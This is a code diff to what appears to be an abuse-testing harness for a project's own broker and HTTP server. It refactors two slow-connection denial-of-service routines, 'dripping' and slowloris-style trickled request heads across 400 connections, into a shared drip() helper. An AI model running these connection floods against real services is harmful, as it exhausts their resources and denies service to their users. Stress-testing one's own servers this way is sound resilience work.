@@ -19,6 +19,7 @@ from attacks.abuser import (
     Target,
     at_once,
     churn,
+    drip,
     flood,
     hold,
     link,
@@ -94,19 +95,7 @@ async def _unfinished(target: Target, got: Got) -> None:
 @_abuse("dripping", "400 connections that send a byte of a frame every 20 ms")
 async def _dripping(target: Target, got: Got) -> None:
     frame = struct.pack(">II", 100_000, 100) + bytes(1000)
-
-    async def one(_: int) -> None:
-        while True:
-            with contextlib.suppress(OSError):
-                async with link(target, target.broker) as (_reader, writer):
-                    for byte in frame:
-                        writer.write(bytes([byte]))
-                        await writer.drain()
-                        got["bytes"] += 1
-                        await asyncio.sleep(0.02)
-            got["connections ended"] += 1
-
-    await at_once(400, one)
+    await drip(target, target.broker, b"", frame, 0.02, got)
 
 
 @_abuse("connections", "connections that are opened and closed, 50 at a time")
@@ -366,19 +355,8 @@ async def _renegotiation(target: Target, got: Got) -> None:
 
 @_abuse("slowloris", "400 HTTP requests whose head sends a byte every 50 ms")
 async def _slowloris(target: Target, got: Got) -> None:
-    async def one(_: int) -> None:
-        while True:
-            with contextlib.suppress(OSError):
-                async with link(target, target.http, tls=False) as (_reader, writer):
-                    writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: ")
-                    for _ in range(2000):
-                        writer.write(b"a")
-                        await writer.drain()
-                        got["bytes"] += 1
-                        await asyncio.sleep(0.05)
-            got["connections ended"] += 1
-
-    await at_once(400, one)
+    head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: "
+    await drip(target, target.http, head, b"a" * 2000, 0.05, got, tls=False)
 
 
 @_abuse("heads", "HTTP requests with a head of 1 MiB")
